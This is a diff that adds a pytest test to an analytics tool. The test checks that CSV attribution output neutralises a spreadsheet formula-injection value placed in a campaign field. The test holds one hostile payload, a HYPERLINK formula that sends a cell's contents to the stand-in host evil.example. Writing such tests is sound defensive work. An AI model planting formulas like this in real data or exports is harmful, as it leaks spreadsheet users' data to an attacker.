@@ -122,6 +122,28 @@ def test_csv_has_one_row_per_model_and_key(
     ]
 
 
+def test_csv_defuses_a_campaign_a_spreadsheet_would_run(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")'  # a visitor's utm_campaign
+    visitor = "f" * 32
+    utm = {"source": "news", "medium": "email", "campaign": formula}
+    archive = tmp_path / "archive"
+    Archive(archive).append(
+        [pageview(visitor, "s", T0, utm=utm), pageview(visitor, "s", T0 + 60, "/thanks")]
+    )
+    (tmp_path / "rules").mkdir()
+    (tmp_path / "rules" / "rules.toml").write_text(RULES)
+    config = tmp_path / "refract.toml"
+    config.write_text(
+        f'[rules]\ndirectory = "{tmp_path / "rules"}"\n[events]\narchive_dir = "{archive}"\n'
+        f'[[sites]]\nhost = "{HOST}"\nid = "{SITE}"\norigin = "http://127.0.0.1:9"\n'
+    )
+    assert attribution(config, "--model", "last", "--by", "campaign", "--format", "csv") == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [row["key"] for row in rows] == ["'" + formula]
+
+
 def test_too_few_conversions_are_warned_about_on_stderr(
     config: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
